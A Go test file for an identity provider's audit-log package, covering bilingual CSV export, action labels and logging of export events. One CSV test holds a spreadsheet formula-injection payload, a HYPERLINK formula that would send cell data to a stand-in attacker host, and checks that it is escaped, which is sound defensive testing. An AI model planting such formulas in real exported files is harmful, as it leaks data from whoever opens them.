package audit_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/gosid/gosid/idp/audit"
	"github.com/gosid/gosid/internal/sqldb"
	"github.com/gosid/gosid/internal/sqldb/sqldbtest"
)

func TestWriteCSV(t *testing.T) {
	entries := []audit.Entry{
		{Seq: 2, At: time.Date(2026, 11, 22, 21, 30, 5, 0, time.UTC), AccountID: "acc-1", Actor: operator, Action: audit.ActionDocumentsUpdated,
			Detail: map[string]string{"office": "МФЦ «Тверской», окно 3", "fields": "passport"}, IP: "192.0.2.1"},
		{Seq: 1, At: time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC), AccountID: "acc-1", Actor: citizen, Action: audit.ActionContactChanged,
			Detail: map[string]string{"field": "phone", "note": `=HYPERLINK("http://evil.example/?"&A1,"Нажмите")`}, IP: "@SUM(1+1)"},
	}
	var buf bytes.Buffer
	if err := audit.WriteCSV(&buf, entries, "ru"); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.HasPrefix(out, "\uFEFF") {
		t.Fatalf("no byte-order mark: %q", out[:10])
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, out)
	}
	want := [][]string{
		{"Дата и время (МСК)", "Действие", "Кто", "IP-адрес", "Подробности"},
		{"23.11.2026 00:30:05", "Изменены данные документов", "Оператор центра обслуживания", "192.0.2.1", "fields=passport; office=МФЦ «Тверской», окно 3"},
		{"22.11.2026 15:00:00", "Изменён номер телефона", "Вы", "'@SUM(1+1)", `field=phone; note==HYPERLINK("http://evil.example/?"&A1,"Нажмите")`},
	}
	if len(recs) != len(want) {
		t.Fatalf("%d rows, want %d:\n%s", len(recs), len(want), out)
	}
	for i := range want {
		for j := range want[i] {
			if recs[i][j] != want[i][j] {
				t.Errorf("row %d cell %d = %q, want %q", i, j, recs[i][j], want[i][j])
			}
		}
	}

	// A detail that is only a formula, and the English header.
	buf.Reset()
	entries = []audit.Entry{{At: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), Actor: audit.Actor{Kind: audit.ActorBank}, Action: "x.unknown",
		Detail: nil, IP: "-1+1"}}
	if err := audit.WriteCSV(&buf, entries, "en"); err != nil {
		t.Fatal(err)
	}
	recs, err = csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(recs[0], "|"); got != "Date and time (Moscow)|Action|By|IP address|Details" {
		t.Errorf("header %q", got)
	}
	if got := strings.Join(recs[1], "|"); got != "02.01.2026 06:04:05|x.unknown|Bank|'-1+1|" {
		t.Errorf("row %q", got)
	}
}

func TestLabels(t *testing.T) {
	all := []string{
		audit.ActionProfileUpdated, audit.ActionDocumentsUpdated, audit.ActionDocumentsPending, audit.ActionContactChanged,
		audit.ActionPasswordChanged, audit.ActionPasswordRecovered, audit.ActionMFAEnabled, audit.ActionMFADisabled,
		audit.ActionBackupCodesRenewed, audit.ActionPasskeyAdded, audit.ActionPasskeyRemoved, audit.ActionPasskeyRenamed,
		audit.ActionCertificateLinked, audit.ActionCertificateRemoved, audit.ActionSettingsChanged, audit.ActionSessionEnded,
		audit.ActionGrantGiven, audit.ActionGrantRevoked, audit.ActionLevelChanged, audit.ActionDeletionRequested,
		audit.ActionDeletionCancelled, audit.ActionAccountErased, audit.ActionAccountLocked, audit.ActionAccountUnlocked,
		audit.ActionAccountBlocked, audit.ActionAccountUnblocked, audit.ActionExportDownloaded,
	}
	seen := map[string]string{}
	for _, a := range all {
		ru, en := audit.Label(a, "ru"), audit.Label(a, "en")
		if ru == a || en == a || ru == en || !strings.ContainsAny(ru, "абвгдеёжзийклмнопрстуфхцчшщъыьэюя") {
			t.Errorf("%s: labels %q / %q", a, ru, en)
		}
		if other, dup := seen[ru]; dup {
			t.Errorf("%s and %s share the label %q", a, other, ru)
		}
		seen[ru] = a
	}
	for field, want := range map[string][2]string{
		"phone": {"Изменён номер телефона", "Phone number changed"},
		"email": {"Изменён адрес электронной почты", "E-mail address changed"},
		"":      {"Изменены контактные данные", "Contact details changed"},
	} {
		e := audit.Entry{Action: audit.ActionContactChanged, Detail: map[string]string{"field": field}}
		if e.Label("ru") != want[0] || e.Label("en") != want[1] {
			t.Errorf("contact.changed, field %q: %q / %q", field, e.Label("ru"), e.Label("en"))
		}
	}
	if got := audit.Label("something.new", "ru"); got != "something.new" {
		t.Errorf("unknown action: %q", got)
	}
	for kind, want := range map[string]string{audit.ActorCitizen: "Вы", audit.ActorOperator: "Оператор центра обслуживания",
		audit.ActorBank: "Банк", audit.ActorAdmin: "Администратор", audit.ActorSystem: "Система", "robot": "robot"} {
		if got := audit.ActorLabel(kind, "ru"); got != want {
			t.Errorf("actor %s: %q, want %q", kind, got, want)
		}
	}
	if got := audit.ActorLabel(audit.ActorCitizen, "en"); got != "You" {
		t.Errorf("citizen in English: %q", got)
	}
}

// TestExport: an export is the account's log as CSV, and reading it is
// itself recorded in that log (by whom and how), in the same chain check;
// an empty log exports a header only and records nothing.
func TestExport(t *testing.T) {
	sqldbtest.Run(t, func(t *testing.T, db *sqldb.DB) {
		ctx := context.Background()
		l, c := newLog(t, db)
		seed(t, l, c, db, 4)
		out, err := l.Export(ctx, "acc-1", time.Time{}, "en", operator, "cli")
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(out), "\uFEFF"))).ReadAll()
		if err != nil || len(rows) != 3 || !strings.Contains(rows[1][1], "Phone") {
			t.Fatalf("export: %v %q", err, rows)
		}
		list, err := l.List(ctx, "acc-1", time.Time{}, 0)
		if err != nil || len(list) != 3 || list[0].Action != audit.ActionExportDownloaded || list[0].Actor != operator || list[0].Detail["via"] != "cli" {
			t.Fatalf("after export: %v %+v", err, list)
		}
		if out, err := l.Export(ctx, "acc-none", time.Time{}, "ru", operator, "cli"); err != nil || strings.Count(string(out), "\n") != 1 {
			t.Fatalf("empty export: %v %q", err, out)
		}
		if list, _ := l.List(ctx, "acc-none", time.Time{}, 0); len(list) != 0 {
			t.Fatalf("an empty export was recorded: %+v", list)
		}
		if rep := verify(t, l); !rep.OK || rep.Entries != 5 {
			t.Fatalf("chains after export: %+v", rep)
		}
		var text bytes.Buffer
		rep := verify(t, l)
		rep.WriteText(&text)
		if !strings.HasSuffix(text.String(), fmt.Sprintf("audit log: 5 entries in %d chains, every chain intact\n", len(rep.Chains))) {
			t.Fatalf("report text:\n%s", text.String())
		}
	})
}
